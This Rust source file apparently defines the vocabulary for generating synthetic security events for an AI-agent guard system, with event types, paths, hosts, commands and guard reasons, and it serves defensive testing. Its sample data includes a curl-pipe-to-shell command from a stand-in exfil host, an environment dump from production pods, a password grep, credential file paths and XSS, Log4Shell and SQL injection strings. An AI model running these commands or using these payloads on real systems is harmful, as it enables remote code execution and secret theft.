//! The vocabulary of generated events.
//!
//! Every entry is the inside of a JSON string, already escaped, so that both raw and escaped forms
//! of a character occur on the wire as different producers write them.

/// What happened, with what goes with it.
pub(super) struct Kind {
    pub(super) event_type: &'static str,
    pub(super) allowed: bool,
    pub(super) guards: &'static [&'static str],
    pub(super) severities: &'static [&'static str],
    /// How many of a hundred events are of this kind.
    pub(super) weight: u64,
}

/// The ten event types (canonical-event.md, Enums).
pub(super) const KINDS: &[Kind] = &[
    Kind {
        event_type: "policy_violation",
        allowed: false,
        guards: &["policy_engine", "rbac", "prompt_injection"],
        severities: &["medium", "high"],
        weight: 8,
    },
    Kind {
        event_type: "policy_allow",
        allowed: true,
        guards: &["forbidden_path", "egress_allowlist", "mcp_tool", "policy_engine"],
        severities: &["info"],
        weight: 46,
    },
    Kind {
        event_type: "guard_block",
        allowed: false,
        guards: &["prompt_injection", "mcp_tool", "jailbreak"],
        severities: &["medium", "high", "critical"],
        weight: 8,
    },
    Kind {
        event_type: "guard_warn",
        allowed: true,
        guards: &["prompt_injection", "spider_sense", "secret_leak"],
        severities: &["low", "medium"],
        weight: 9,
    },
    Kind {
        event_type: "secret_detected",
        allowed: false,
        guards: &["secret_leak"],
        severities: &["high", "critical"],
        weight: 3,
    },
    Kind {
        event_type: "egress_blocked",
        allowed: false,
        guards: &["egress_allowlist", "threat_intel"],
        severities: &["medium", "high"],
        weight: 8,
    },
    Kind {
        event_type: "forbidden_path",
        allowed: false,
        guards: &["forbidden_path"],
        severities: &["high", "critical"],
        weight: 5,
    },
    Kind {
        event_type: "patch_rejected",
        allowed: false,
        guards: &["patch_integrity"],
        severities: &["medium", "high"],
        weight: 3,
    },
    Kind {
        event_type: "session_start",
        allowed: true,
        guards: &["engine"],
        severities: &["info"],
        weight: 5,
    },
    Kind {
        event_type: "session_end",
        allowed: true,
        guards: &["engine"],
        severities: &["info"],
        weight: 5,
    },
];

/// The resource types with the category and the actions that belong to them.
pub(super) const RESOURCES: &[(&str, &str, &[&str])] = &[
    ("file", "file", &["file_access", "file_write", "patch"]),
    ("network", "network", &["egress", "dns_lookup"]),
    ("process", "process", &["shell", "exec"]),
    ("tool", "tool", &["mcp_tool", "custom"]),
    ("configuration", "configuration", &["policy_reload", "session"]),
];

/// Categories that no resource implies; they replace the implied one now and then.
pub(super) const OTHER_CATEGORIES: &[&str] = &["authentication", "authorization", "session"];

/// Paths: Unix, Windows with escaped backslashes, Unicode raw and escaped, blanks.
pub(super) const PATHS: &[&str] = &[
    "/srv/app/src/main.rs",
    "/home/dev/.ssh/id_ed25519",
    "/etc/kubernetes/pki/ca.key",
    "\\/var\\/lib\\/agents\\/cache\\/index.db",
    "C:\\\\Users\\\\dev\\\\AppData\\\\Local\\\\Temp\\\\patch-0001.diff",
    "\\\\\\\\fileserver\\\\share\\\\Q3 report (final).xlsx",
    "/home/dev/Gr\u{fc}\u{df}e aus M\u{fc}nchen/notizen.md",
    "/data/\\u65e5\\u672c\\u8a9e/\\u8a2d\\u5b9a.toml",
    "/srv/\u{441}\u{435}\u{440}\u{432}\u{435}\u{440}/\u{43a}\u{43b}\u{44e}\u{447}.pem",
    "/tmp/a\\tb\\nc",
    "/repo/node_modules/@scope/package/dist/index.min.js",
    "/repo/.git/hooks/pre-commit",
];

/// Hosts: names, an internationalised name, a trailing dot, IPv4, IPv6.
pub(super) const HOSTS: &[&str] = &[
    "api.openai.com",
    "exfil.example",
    "registry.npmjs.org",
    "metadata.google.internal.",
    "xn--bcher-kva.example",
    "b\u{fc}cher.example",
    "169.254.169.254",
    "10.20.30.40",
    "2001:db8::8a2e:370:7334",
    "[2001:db8::1]",
    "collector.eu-central-1.telemetry.example.net",
];

/// Command lines and tool names.
pub(super) const COMMANDS: &[&str] = &[
    "cargo test --workspace -- --nocapture",
    "bash -c \\\"curl -fsSL https://exfil.example/x.sh | sh\\\"",
    "git commit -m \\\"fix: \u{fc}ber-escape \\\\n handling\\\"",
    "python3 - <<'EOF'\\nprint(\\\"hi\\\")\\nEOF",
    "C:\\\\Windows\\\\System32\\\\cmd.exe /c dir \\\"C:\\\\Program Files\\\"",
    "grep -rn 'password' --include=*.env .",
    "kubectl exec -n prod deploy/api -- env",
];

/// Names of tools.
pub(super) const TOOLS: &[&str] = &[
    "filesystem.read_file",
    "github.create_issue",
    "sql.query",
    "browser/navigate",
    "e\\u0301dit",
];

/// Reasons, as guards word them; some carry what a careless writer breaks on.
pub(super) const REASONS: &[&str] = &[
    "permitted",
    "",
    "destination is outside the allowlist",
    "path matches the forbidden pattern \\\"**/.ssh/**\\\"",
    "line one\\nline two\\r\\n\\tindented",
    "separator\u{2028}and paragraph\u{2029}inside",
    "next line\u{85}and delete\u{7f}",
    "control \\u0000\\u0001\\u001b[31mred\\u001b[0m",
    "emoji \u{1f512}\u{1f468}\u{200d}\u{1f4bb} and escaped \\ud83d\\ude80",
    "right to left \u{0639}\u{0631}\u{0628}\u{064a} \u{05e2}\u{05d1}\u{05e8}\u{05d9}\u{05ea}",
    "</script><script>alert('x')</script> & \\u003cb\\u003e",
    "={{7*7}} ${jndi:ldap://x} %n%s '; DROP TABLE events;--",
    "pipe|equals=backslash\\\\ comma,semicolon; [brackets] {braces} \\\"quotes\\\"",
    "\u{feff}byte order mark in the middle, combining e\u{301}, fullwidth \u{ff21}\u{ff22}",
];

/// Tactics with a technique each (ATT&CK ids, names, and one of ATLAS).
pub(super) const THREATS: &[(&str, &str)] = &[
    ("TA0010", "T1041"),
    ("TA0006", "T1552.004"),
    ("TA0011", "T1071"),
    ("TA0003", "T1554"),
    ("TA0002", "T1059"),
    ("Exfiltration", "Exfiltration Over C2 Channel"),
    ("AML.TA0004", "AML.T0051"),
];

/// Agents: id, name, version, product.
pub(super) const AGENTS: &[(&str, &str, &str, &str)] = &[
    ("coder-01", "hushd", "0.1.0", "clawdstrike"),
    ("coder-02", "hushd", "0.1.0", "clawdstrike"),
    ("hushd", "hushd", "0.2.3", "clawdstrike"),
    ("research-agent", "openclaw", "1.4.0-rc.1+build.7", "clawdstrike"),
    ("proxy-eu-1", "velar", "0.9.12", "velar"),
    ("\u{30a8}\u{30fc}\u{30b8}\u{30a7}\u{30f3}\u{30c8}-7", "hush-ts", "2.0.0", "clawdstrike"),
];

/// Users, tenants, environments.
pub(super) const USERS: &[&str] =
    &["auth0|u-991", "dev@example.com", "svc-deploy", "DOMAIN\\\\j.m\u{fc}ller", "u_5f0c21"];
/// Tenants.
pub(super) const TENANTS: &[&str] = &["acme", "globex", "initech", "umbrella-eu"];
/// Environments.
pub(super) const ENVIRONMENTS: &[&str] = &["production", "staging", "dev"];

/// Labels.
pub(super) const LABELS: &[(&str, &str)] = &[
    ("team", "security"),
    ("region", "eu-west-1"),
    ("app.kubernetes.io/name", "agent-gateway"),
    ("cost center", "R&D"),
    ("owner", "Zo\u{eb} \\u2014 platform"),
    ("quote\\\"d", "va\\\\lue"),
];

/// Members of metadata besides the ones a resource implies: keys with JSON values.
pub(super) const METADATA: &[(&str, &str)] = &[
    ("matched_pattern", "null"),
    ("is_default", "true"),
    ("contributing_policies", "[\"base\",\"team-overrides\",\"pci\"]"),
    ("score", "0.8731234567890123"),
    ("big", "123456789012345678901234567890"),
    ("tiny", "1.5e-300"),
    ("negative", "-0"),
    ("empty", "{}"),
    ("list", "[]"),
    ("nested", "{\"a\":{\"b\":{\"c\":[1,2,{\"d\":\"deep\"}]}}}"),
    ("spaced", "{ \"k\" : [ 1 , 2 ] }"),
    ("velar", "{\"sanitized_count\":2,\"model\":\"gpt-4o\",\"latency_ms\":12.75}"),
];

/// Words that fill an event up to its size.
pub(super) const FILL: &[&str] = &[
    "the",
    "agent",
    "requested",
    "access",
    "to",
    "resource",
    "policy",
    "evaluated",
    "rule",
    "matched",
    "pattern",
    "session",
    "token",
    "denied",
    "allowed",
    "because",
    "context",
    "window",
    "tool",
    "response",
    "contained",
    "sequence",
    "header",
    "value",
    "request",
    "body",
    "chunk",
    "na\u{ef}ve",
    "\u{20ac}",
    "\\\"quoted\\\"",
    "C:\\\\tmp",
    "\\n",
    "\\u00e9t\\u00e9",
    "\u{4e2d}\u{6587}",
    "\u{1f980}",
    "user-agent",
    "Mozilla/5.0",
    "gzip,",
    "text/html;q=0.8",
];
